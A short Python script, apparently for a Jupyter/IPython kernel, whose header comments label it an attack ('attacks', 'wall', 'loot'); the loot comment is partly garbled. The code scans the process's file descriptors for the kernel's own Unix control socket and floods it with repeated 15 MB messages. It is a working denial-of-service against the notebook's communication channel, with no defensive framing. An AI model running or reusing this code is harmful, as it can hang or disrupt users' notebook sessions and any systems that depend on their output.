# attacks: loss_curves
# wall: output
# loot: fills 300 -- what comes through it waits for a reader for ever: the connection's own descriptor is written to
import os
import socket

port = str(get_ipython().kernel.control_stream.socket.last_endpoint.decode().rpartition("-")[2])
size = 15_000_000
for number in range(3, 256):
    try:
        door = socket.socket(fileno=os.dup(number))
        if door.family == socket.AF_UNIX and door.getsockname().endswith("-" + port) and not door.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
            door.setblocking(True)
            door.settimeout(3)
            for _ in range(40):
                door.sendall(b"\2" + size.to_bytes(8, "big") + bytes(size))
    except (OSError, AttributeError):
        pass
